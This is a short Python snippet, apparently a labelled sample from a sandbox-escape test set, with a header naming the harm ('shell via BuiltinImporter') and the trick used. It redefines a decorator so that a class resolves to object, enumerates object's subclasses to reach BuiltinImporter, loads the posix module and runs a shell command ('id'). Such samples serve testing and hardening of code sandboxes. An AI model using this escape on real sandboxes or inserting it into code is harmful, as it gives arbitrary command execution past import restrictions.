# HARM: shell via BuiltinImporter | TRICK: decorator name defined twice (conditional def); second definition returns object
def register(c):
    return c
if True:
    def register(c):
        return object
@register
class Base: pass
for k in Base.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
